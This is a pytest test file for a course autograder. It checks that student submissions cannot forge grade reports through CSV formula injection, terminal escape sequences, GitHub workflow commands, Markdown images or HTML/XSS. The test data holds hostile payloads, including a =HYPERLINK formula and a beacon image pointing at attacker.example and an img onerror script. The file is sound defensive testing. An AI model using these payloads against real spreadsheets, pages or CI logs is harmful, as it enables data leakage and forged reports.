"""Reports cannot be forged for the human who reads them, flags reach every report, and odd
submission names neither crash a batch nor share a report."""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from bugs import TEST_SEED, apply_spec
from conftest import ROOT

from grader import cli, github_summary, html_report
from grader.project import Layout

LAYOUT = Layout(ROOT, "nndl")
FORMULA = '=HYPERLINK("attacker.example?steal=1","click me")'  # a folder name: no slash
# An exception message that tries every medium at once.
FORGERY = (
    "\\x1b[2J\\x1b[Htotal: 58 / 58\\r\\n::add-mask::hidden\\n::stop-commands::x\\n"
    "```\\n\\n**83 / 83**\\n![beacon](http://attacker.example/b.png)\\n<img src=x onerror=alert(1)>\\n````"
)
HOSTILE_SGD = {
    "replace": [
        {
            "file": "nndl/optim.py",
            "old": "    next_w = w - config['learning_rate'] * dw\n",
            "new": f'    raise ValueError("{FORGERY}")\n',
        }
    ]
}
MODIFIES_PROVIDED = {"add": [{"path": "utils/gradient_check.py", "text": "# edited by the student\n"}]}


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    base = tmp_path_factory.mktemp("inert")
    seed = base / "secret" / "hidden-seed"
    seed.parent.mkdir()
    seed.write_text(TEST_SEED)
    batch = base / "class"
    apply_spec(HOSTILE_SGD, batch / FORMULA, "formula")
    apply_spec(MODIFIES_PROVIDED, batch / "flagged", "flagged")
    apply_spec({}, batch / ("a" * 240), "long")
    apply_spec({}, batch / "alice", "alice")
    folder = apply_spec(HOSTILE_SGD, base / "zip-source" / "alice", "alice-zip")
    with zipfile.ZipFile(batch / "alice.zip", "w") as zf:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                zf.write(path, path.relative_to(folder.parent).as_posix())
    out = base / "out"
    args = [
        str(batch),
        "--reference",
        str(LAYOUT.reference),
        "--fixtures",
        str(LAYOUT.fixtures),
        "--hidden-seed-file",
        str(seed),
        "--no-notebooks",
        "--out",
        str(out),
        "--jobs",
        "2",
        "--json",
        str(base / "reports.json"),
    ]
    assert cli.main(args) == 0
    return {"base": base, "out": out, "args": args}  # type: ignore[dict-item]


def test_a_folder_and_a_zip_of_the_same_name_and_a_240_character_name_each_get_their_own_report(
    graded: dict[str, Path],
) -> None:
    reports = {r["submission"]: r for r in json.loads((graded["base"] / "reports.json").read_text())}
    assert set(reports) == {FORMULA, "flagged", "a" * 240, "alice", "alice.zip"}
    assert reports["alice"]["total"] == 58 and reports["alice.zip"]["total"] == 57
    assert reports["a" * 240]["total"] == 58
    names = sorted(p.name for p in (graded["out"] / "feedback").iterdir())
    assert len(names) == 5 and all(len(n) <= 120 for n in names)


def test_a_name_or_message_cannot_become_a_spreadsheet_formula(graded: dict[str, Path]) -> None:
    for csv in ("gradebook.csv", "items.csv"):
        frame = pd.read_csv(graded["out"] / csv, dtype=str, keep_default_na=False)
        cells = [c for column in frame.columns for c in frame[column]]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], csv
        assert f"'{FORMULA}" in cells


def test_the_terminal_report_has_no_escape_sequences_and_no_workflow_commands(graded: dict[str, Path]) -> None:
    for path in (graded["out"] / "terminal").iterdir():
        text = path.read_text()
        assert "\x1b" not in text and "\r" not in text
        assert not re.search(r"^\s*::", text, re.MULTILINE), path.name
    text = next(p for p in (graded["out"] / "terminal").iterdir() if p.name.startswith("_HYPERLINK")).read_text()
    assert "'::add-mask::hidden" in text


def test_feedback_shows_student_text_as_text(graded: dict[str, Path]) -> None:
    text = next(p for p in (graded["out"] / "feedback").iterdir() if p.name.startswith("_HYPERLINK")).read_text()
    # The message sits in a fence longer than any run of backticks in it, so it cannot be closed early.
    fence = re.search(r"^(`{5,})text$", text, re.MULTILINE)
    assert fence is not None
    block = text.split(fence.group(0) + "\n", 1)[1].split("\n" + fence.group(1) + "\n", 1)[0]
    assert "**83 / 83**" in block and "![beacon](http://attacker.example/b.png)" in block
    outside = text.replace(block, "")
    assert "**83 / 83**" not in outside and "attacker.example" not in outside and "<img" not in outside
    assert text.splitlines()[0] == '# Feedback: =HYPERLINK\\("attacker\\.example?steal=1","click me"\\)'


def test_flags_reach_the_json_the_gradebook_and_the_feedback(graded: dict[str, Path]) -> None:
    reports = {r["submission"]: r for r in json.loads((graded["base"] / "reports.json").read_text())}
    assert reports["flagged"]["flags"] == [
        ("provided file(s) modified in the submission, graded with the originals: utils/gradient_check.py")
    ]
    assert reports["alice"]["flags"] == []
    gradebook = pd.read_csv(graded["out"] / "gradebook.csv", dtype=str, keep_default_na=False).set_index("submission")
    assert "utils/gradient_check.py" in gradebook.loc["flagged", "flags"]
    assert "## Notes for the course staff" in (graded["out"] / "feedback" / "flagged.md").read_text()


def test_job_summary_and_annotations_are_inert(graded: dict[str, Path]) -> None:
    report = next(r for r in json.loads((graded["base"] / "reports.json").read_text()) if r["submission"] == FORMULA)
    one_line = dict(
        report,
        items=[
            dict(
                report["items"][0],
                points=0.0,
                status="fail",
                message="**83 / 83** ![b](http://attacker.example/b.png) <img src=x> | x",
            )
        ],
    )
    for data in (report, one_line):
        summary = github_summary.summary_markdown(data)
        assert "**83" not in summary and "<img" not in summary and "![" not in summary
        lines = github_summary.annotation_lines(data)
        assert lines
        for line in lines:
            assert line.startswith(("::error ", "::warning ")) and "\n" not in line and "\r" not in line
            assert "\x1b" not in line


def test_a_cache_entry_replaced_by_a_folder_does_not_stop_the_rerun(graded: dict[str, Path]) -> None:
    cache = graded["out"] / "cache"
    entry = cache / "alice.json"
    entry.unlink()
    entry.mkdir()
    (entry / "x").write_text("in the way")
    assert cli.main([*map(str, graded["args"]), "--quiet"]) == 0
    assert json.loads(entry.read_text())["report"]["submission"] == "alice"


def test_the_html_report_shows_student_text_as_text(graded: dict[str, Path]) -> None:
    """Each submission has its page beside its Markdown feedback; the forged message is text on it."""
    pages = sorted((graded["out"] / "html").iterdir())
    assert [p.stem for p in pages] == sorted(p.stem for p in (graded["out"] / "feedback").iterdir())
    page = next(p for p in pages if p.name.startswith("_HYPERLINK")).read_text()
    assert html_report.CSP in page
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "\x1b" not in page and "**83 / 83**" in page  # text, in a <pre>: Markdown means nothing here
